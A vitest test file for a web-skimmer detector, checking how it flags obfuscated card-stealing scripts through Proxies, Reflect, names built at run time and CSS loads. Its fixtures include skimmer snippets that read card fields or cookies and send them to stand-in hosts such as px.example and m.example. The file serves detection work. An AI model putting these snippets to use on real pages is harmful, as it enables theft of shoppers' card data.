import { describe, expect, it } from 'vitest'
import { decodeEntities, escapedTexts } from '../../detector/deobfuscate/decode.ts'
import { analyzeScript } from '../../detector/index.ts'
import { stringArrayEdits } from '../../detector/deobfuscate/string-array.ts'
import { parseStrict } from '../../detector/parse.ts'
import { sweepsInputs } from '../../detector/patterns.ts'

// How the detector reads what skimmers spell indirectly: field sweeps written as selector lists,
// entities read back through markup, and text written as escapes.
describe('selectors that sweep every form field', () => {
  const cases: [string, boolean][] = [
    ['input, select, textarea', true],
    ['input, select, textarea, checkbox', true],
    ['input,select,textarea,button', true],
    ['form input', true],
    ['#co-payment-form input, #co-payment-form select', true],
    [':input', true],
    ['input:not([type=hidden])', true],
    ['input[type=text], select', true],
    ['input[name="payment[cc_number]"]', false],
    ['input.qty', false],
    ['.btn, a', false],
    ['inputs', false],
  ]
  for (const [selector, sweeps] of cases)
    it(`${JSON.stringify(selector)} ${sweeps ? 'sweeps' : 'does not sweep'}`, () => {
      expect(sweepsInputs(selector)).toBe(sweeps)
    })
})

describe('text spelled another way', () => {
  it('reads numeric and named HTML entities back as text', () => {
    expect(decodeEntities('&#104;&#x74;tps&#58;//a.b/?x=1&amp;y=2')).toBe('https://a.b/?x=1&y=2')
  })

  it('finds ASCII text a file writes as escapes, and leaves escaped non-ASCII alone', () => {
    const source = `var a = "\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61\\x2e\\x62"; var b = "\\u00e9t\\u00e9 \\u00e0 Paris l\\u00e0-bas"; var c = 'plain text, long enough'`
    expect([...escapedTexts(source)]).toEqual(['https://a.b'])
  })
})

describe("javascript-obfuscator's string arrays, fast path", () => {
  it('leaves an array it cannot unrotate (no checksum) to the evaluator instead of misreading it', () => {
    const source = `var t=['second','third','first'];(function(a,n){var r=function(k){while(--k){a.push(a.shift())}};r(++n)}(t,0x1));
      var d=function(i){i=i-0x0;var s=t[i];return s};document.title=d('0x0')`
    const edits = stringArrayEdits(parseStrict(source) as never, source) ?? []
    expect(edits.map((e) => e.text).join(' ')).not.toContain('second')
  })
})

describe('what sends a file to the detonation chamber', () => {
  // names spelled from String.raw pieces, which the evaluator does not read
  const built = `(function (g, r) {
    var j = function () { return [].slice.call(arguments).join('') }
    var I = g[j(r\`Im\`, r\`age\`)], R = g[j(r\`Ref\`, r\`lect\`)]
    var D = g[j(r\`docu\`, r\`ment\`)], E = g[j(r\`encodeURI\`, r\`Component\`)]
    D.addEventListener('submit', function (e) { R.construct(I, []).src = '//px.example/p?d=' + E(e.target.innerText) }, true)
  })(window, String.raw)`
  it('a script reaching browser APIs by names it builds on the global object', () => {
    expect(analyzeScript(built).triage ?? []).toContain(
      'reads browser APIs off the global object or the document by names it builds at run time',
    )
  })
  it('names held in variables that spell them from objects at run time, on window and document', () => {
    // the names come out of objects' own conversions, which the evaluator does not run
    const held = `!function (g, d) {
      function P(s) { this.s = s } P.prototype.toString = function () { return this.s.split('').reverse().join('') }
      var F = '' + new P('hctef'), Q = \`\${new P('rotceleSyreuq')}\`, A = '' + new P('renetsiLtnevEdda')
      d[A]('submit', function () { g[F]('https://m.example/c', { method: 'POST', body: d[Q]('#cc').value }) }, true)
      d[A]('change', function () {}, true); d[A]('blur', function () {}, true)
    }(window, document)`
    expect(analyzeScript(held).triage ?? []).toContain(
      'reads browser APIs off the global object or the document by names it builds at run time',
    )
  })
  it('not a script reading globals by a name it was given', () => {
    const given = `function lookup(name) { return window[name] || self[name] || globalThis[name] }
      lookup('jQuery'); lookup('Zepto'); lookup('Sizzle'); lookup('ender')`
    expect(analyzeScript(given).triage ?? []).not.toContain(
      'reads browser APIs off the global object or the document by names it builds at run time',
    )
  })
})

describe('a Proxy that looks up other names than it is asked for', () => {
  const reason = 'looks up names through a Proxy that rewrites them'
  it('a trap that decodes the key it is given sends the file to the chamber', () => {
    const renamed = `var r = function (s) { return s.split('').reverse().join('') }
      var P = function (o) { return new Proxy(o, { get: function (t, k) { var n = r(k); return t[n] } }) }
      var W = P(window); W.nocaeBdnes('https://m.example/c', W.tnemucod.eikooc)`
    expect(analyzeScript(renamed).triage ?? []).toContain(reason)
    const viaReflect = `const h = { get(t, k, rx) { return Reflect.get(t, atob(k), rx) } }
      const g = new Proxy(self, h); g.ZmV0Y2g('/x')`
    expect(analyzeScript(viaReflect).triage ?? []).toContain(reason)
    // the key itself made over before the lookup, even when then spelt as a string
    for (const body of [
      'k = r(k); return t[k]',
      'k = r(k); return t[String(k)]',
      "return t[String(k).split('').reverse().join('')]",
      "var n = k.toString().split('').reverse().join(''); return t[n]",
    ])
      expect(
        analyzeScript(`var r = function (s) { return s.split('').reverse().join('') }
        var W = new Proxy(window, { get: function (t, k) { ${body} } }); W.nocaeBdnes('https://m.example/c', '1')`)
          .triage ?? [],
      ).toContain(reason)
  })
  it('not a trap that only normalises the key it is given (String, lower case)', () => {
    for (const body of [
      'return t[String(k)]',
      'return t[k.toLowerCase()]',
      'return t[String(k).trim()]',
    ])
      expect(
        analyzeScript(
          `var headers = new Proxy({}, { get: function (t, k) { ${body} } }); fetch('/a', { headers: { x: headers.accept } })`,
        ).triage ?? [],
      ).not.toContain(reason)
  })
  it('not a reactive store or logger that looks up the key it was given', () => {
    const reactive = `function track(t, k) { deps.push([t, k]) }
      var deps = []
      function reactive(o) { return new Proxy(o, { get(t, k, r) { track(t, String(k)); return Reflect.get(t, k, r) },
        set(t, k, v) { t[k] = v; return true } }) }
      var state = reactive({ count: 0 }); state.count++`
    expect(analyzeScript(reactive).triage ?? []).not.toContain(reason)
  })
})

describe('method names found by searching property lists', () => {
  const reason =
    "names card fields and finds the browser's method names by searching its property lists"
  const search = `var own = Object.getOwnPropertyNames, up = Object.getPrototypeOf
    function find(o, n, a) { for (var t = o; t; t = up(t)) { var k = own(t)
      for (var i = 0; i < k.length; i++) if (k[i].length === n && k[i][0] === a) return k[i] } return '' }
    var D = window[find(window, 8, 'd')]`
  it('with card fields named, the file goes to the chamber', () => {
    const source = `${search}; var sel = 'input[name*="cvv"], input[autocomplete="cc-number"]'
      D[find(D, 13, 'q')](sel)`
    expect(analyzeScript(source).triage ?? []).toContain(reason)
    const viaReflect = source.replace('Object.getOwnPropertyNames', 'Reflect.ownKeys')
    expect(analyzeScript(viaReflect).triage ?? []).toContain(reason)
  })
  it('not a mixin that copies own properties, with no card field named', () => {
    const mixin = `function assign(to, from) { Object.getOwnPropertyNames(from).forEach(function (k) {
      Object.defineProperty(to, k, Object.getOwnPropertyDescriptor(from, k)) }); return to }
      assign(window.App = {}, { start: function () { document.title = 'Shop' } })`
    expect(analyzeScript(mixin).triage ?? []).not.toContain(reason)
    // a transpiler's object-spread helper beside a card form's labels
    const spread = `function ownKeys(o) { var k = Object.keys(o); if (Object.getOwnPropertySymbols) k.push.apply(k, Object.getOwnPropertySymbols(o)); return k }
      function spread(t, s) { Reflect.ownKeys(s).forEach(function (k) { t[k] = s[k] }); return t }
      var labels = spread({}, { cardNumber: 'Card number', cvc: 'Security code' }); render(labels)`
    expect(analyzeScript(spread).triage ?? []).not.toContain(reason)
  })
})

describe('calls through Reflect or call.apply', () => {
  const reason =
    'names card fields and calls functions it holds as values through Reflect or call.apply'
  it('with card fields named and no sender in sight, the file goes to the chamber', () => {
    // methods read off prototypes by names put together, called with Reflect.apply
    const reflect = `(function (w) { var R = w.Reflect, n = 'add' + 'EventList' + 'ener'
      var on = R.get(w.EventTarget.prototype, n)
      R.apply(on, w.document, ['change', function () { var c = w.document.querySelector('#cc_number') }])
    })(window)`
    expect(analyzeScript(reflect).triage ?? []).toContain(reason)
    // the same through Function.prototype.call.apply, and with the card named in a regex
    const callApply = `var call = Function.prototype.call, k = /cvv|cvc|card.?num/
      var q = Document.prototype['querySelector' + 'All']
      call.apply(q, [document, 'input']).forEach(function (el) { if (k.test(el.name)) keep(el) })`
    expect(analyzeScript(callApply).triage ?? []).toContain(reason)
  })
  it('not without card fields, nor when a sender is already in sight', () => {
    const polyfill = `var apply = typeof Reflect === 'object' ? Reflect.apply : function (f, t, a) { return f.apply(t, a) }
      function bound(f, t) { return function () { return Reflect.apply(f, t, arguments) } }
      bound(console.log, console)('ready')`
    expect(analyzeScript(polyfill).triage ?? []).not.toContain(reason)
    const sender = `var card = document.querySelector('#card-number')
      Reflect.apply(fetch, window, ['/pay', { method: 'POST', body: card.value }])`
    expect(analyzeScript(sender).triage ?? []).not.toContain(reason)
  })
})

describe('a console given to a page that has none', () => {
  const clobbers = (source: string) =>
    analyzeScript(source).findings.some(
      (f) => f.rule === 'anti-analysis' && /console/.test(f.message),
    )
  it('is a stand-in, not anti-analysis, however the missing console is tested', () => {
    for (const source of [
      `if (typeof console !== 'undefined' && 'log' in console) { start() } else console = { log: function () {} }`,
      // a minifier's sequence in the test, and the test turned round
      `if (init(), "undefined" != typeof console) run(); else console = { log: function () {} }`,
      `if ('undefined' === typeof console) { window.console = { log: function () {}, warn: function () {} } }`,
      `window.console || (window.console = { log: function () {} })`,
      `var c = !window.console ? (console = { error: function () {} }) : console`,
    ])
      expect(clobbers(source), source).toBe(false)
  })
  it('still counts silencing the console the page has', () => {
    for (const source of [
      `console.log = function () {}`,
      `if (typeof console !== 'undefined') { console.log = console.warn = function () {} }`,
      `window.console && (console.error = function () {})`,
      `if (typeof console === 'undefined') { setup() } else { console = { log: function () {} } }`,
    ])
      expect(clobbers(source), source).toBe(true)
  })
})

describe('reading one named control of a form is not a sweep', () => {
  const post = (
    read: string,
  ) => `document.querySelector('form.contact').addEventListener('submit', function (e) {
      var f = e.target; e.preventDefault()
      ${read}
      fetch('https://forms.example.net/submit', { method: 'POST', body: JSON.stringify(data) })
    })`
  it('controls asked for by name (namedItem, a property, a string key) are named reads', () => {
    for (const read of [
      `var data = { email: f.elements.namedItem('email').value, msg: f.elements.namedItem('message').value }`,
      `var data = { email: f.elements.email.value, msg: f.elements['message'].value }`,
    ]) {
      const v = analyzeScript(post(read))
      expect(v.findings.map((x) => x.message).join('\n')).not.toMatch(/every form field/)
    }
  })
  it('walking the collection stays a sweep of every field', () => {
    const read = `var data = {}; for (var i = 0; i < f.elements.length; i++) data[f.elements[i].name] = f.elements[i].value`
    const v = analyzeScript(post(read))
    expect(v.findings.map((x) => x.message).join('\n')).toMatch(/every form field/)
  })
})

describe('style text that loads what it builds', () => {
  const reason = 'names card fields and can send or load something'
  // the url() and the address are pieces put together away from the write
  const style = `var head = 'url(', host = '//static-glyphs.example/g/'
    function rule(sel, key) { return sel + '{background:' + head + host + key + ')}' }
    var css = []; ['0', '1', '2'].forEach(function (d) { css.push(rule(FIELD + '[data-d="' + d + '"]', d)) })
    var st = document.createElement('style'); st.textContent = css.join('')
    document.head.appendChild(st)`
  it('with card fields named, the file goes to the chamber', () => {
    const source = `var FIELD = 'input[autocomplete="cc-number"]'; ${style}`
    expect(analyzeScript(source).triage ?? []).toContain(reason)
    const sheet = source.replace("st.textContent = css.join('')", 'st.sheet.insertRule(css[0])')
    expect(sheet).toContain('insertRule')
    expect(analyzeScript(sheet).triage ?? []).toContain(reason)
  })
  it('not a theme that names no card field', () => {
    const theme = `var FIELD = '.swatch'; ${style}`
    expect(analyzeScript(theme).triage ?? []).not.toContain(reason)
  })
})

describe('a form the script builds and posts', () => {
  // the action is read at run time: only the values the script wrote into the form tell
  const helper = (call: string): string => `var Relay = {
    post: function (fields) {
      var f = document.createElement('form'); f.method = 'post'; f.action = location.hash.slice(1)
      for (var k in fields) { var i = document.createElement('input'); i.type = 'hidden'; i.name = k; i.value = fields[k]; f.appendChild(i) }
      document.body.appendChild(f); f.submit()
    } }
    document.addEventListener('click', function () { ${call} })`
  const card = `{ n: document.querySelector('#cc-number').value, c: document.querySelector('#cvv').value }`
  const rulesOf = (source: string): string[] =>
    analyzeScript(source, { url: null })
      .findings.filter((f) => f.points > 0)
      .map((f) => f.rule)

  it("carries what the script wrote into its hidden inputs, handed to an object's method", () => {
    expect(rulesOf(helper(`Relay.post(${card})`))).toContain('card-field-read-and-send')
  })
  it('not when the inputs hold nothing read from the page', () => {
    expect(rulesOf(helper(`Relay.post({ n: 'gift', c: 'wrap' })`))).not.toContain(
      'card-field-read-and-send',
    )
  })
})

describe('a promise handed a local function by name', () => {
  const rulesOf = (source: string): string[] =>
    analyzeScript(source, { url: null })
      .findings.filter((f) => f.points > 0)
      .map((f) => f.rule)
  const load = `function load() { return crypto.subtle.decrypt({ name: 'AES-GCM', iv: iv }, key, data).then(function (buf) { return new TextDecoder().decode(buf) }) }`
  it('runs what the promise resolves to: code decoded from bytes, run by Function', () => {
    expect(
      rulesOf(
        `${load}; function run(src) { return new Function('cfg', src)({}) }; load().then(run)`,
      ),
    ).toContain('dynamic-code-from-decoded')
  })
  it('not when the function handed on only displays it', () => {
    expect(
      rulesOf(`${load}; function show(text) { document.title = text }; load().then(show)`),
    ).not.toContain('dynamic-code-from-decoded')
  })
})
